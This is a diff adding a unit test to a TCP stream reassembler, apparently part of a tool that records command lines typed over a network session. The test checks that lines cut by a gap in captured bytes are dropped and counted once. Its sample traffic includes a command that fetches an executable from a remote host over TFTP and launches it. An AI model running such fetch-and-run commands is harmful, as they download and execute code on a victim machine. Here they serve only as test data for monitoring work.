@@ -247,6 +247,46 @@ static void test_overlong(void)
 		CHECK(lines[i].text[0] != 'y', "overlong line delivered");
 }
 
+/*
+ * A gap in the client's bytes (the server ACKs bytes never seen) cuts the
+ * line being typed: dropped up to its newline and counted once as a partial
+ * line, not as an overlong one, and not again when the flow ends first.
+ */
+static void test_gap_cuts_line(void)
+{
+	struct conn a = conn_new(1031, 4444), b = conn_new(1032, 4444);
+	uint64_t overlong = ws_reasm_stats()->overlong;
+	uint64_t dropped = ws_reasm_stats()->partial_dropped;
+
+	handshake(&a, 135);
+	client_data(&a, 135, "cd \\\n");	/* a complete line: followed as a stream from here */
+	client_data(&a, 135, "tftp -i 1.2.3.4 GET ");
+	a.cseq += 4;	/* 4 bytes never reach us */
+	client_data(&a, 136, "x.exe\n");	/* queued beyond the hole */
+	send_tcp(&a, 1, 136, TH_ACK, "", 0, a.sseq);	/* the server had them all */
+	client_data(&a, 137, "after gap\n");
+	CHECK(count_text("after gap") == 1 && !find_text("x.exe") &&
+	      !find_text("tftp -i 1.2.3.4 GET "), "the cut line dropped, the next one kept");
+	CHECK(ws_reasm_stats()->partial_dropped == dropped + 1 &&
+	      ws_reasm_stats()->overlong == overlong,
+	      "a cut line is one partial line, not overlong (partial +%llu, overlong +%llu)",
+	      (unsigned long long)(ws_reasm_stats()->partial_dropped - dropped),
+	      (unsigned long long)(ws_reasm_stats()->overlong - overlong));
+
+	handshake(&b, 138);
+	client_data(&b, 138, "cd \\\n");
+	client_data(&b, 138, "start ");
+	b.cseq += 3;
+	client_data(&b, 139, "y.exe");
+	send_tcp(&b, 1, 139, TH_ACK, "", 0, b.sseq);
+	send_tcp(&b, 0, 139, TH_ACK | TH_FIN, "", 0, b.cseq);
+	send_tcp(&b, 1, 139, TH_ACK | TH_FIN, "", 0, b.sseq);
+	CHECK(!find_text("y.exe") && !find_text("start "), "no line from a cut one at FIN");
+	CHECK(ws_reasm_stats()->partial_dropped == dropped + 2,
+	      "a cut line without newline counted once (partial +%llu, want 2 in all)",
+	      (unsigned long long)(ws_reasm_stats()->partial_dropped - dropped));
+}
+
 static void test_fin_and_rst(void)
 {
 	struct conn f = conn_new(1029, 4444), r = conn_new(1030, 4444);
@@ -363,6 +403,7 @@ int main(void)
 	test_midstream();
 	test_out_of_order_and_duplicates();
 	test_overlong();
+	test_gap_cuts_line();
 	test_fin_and_rst();
 	test_ignored_traffic();
 	test_fragments();
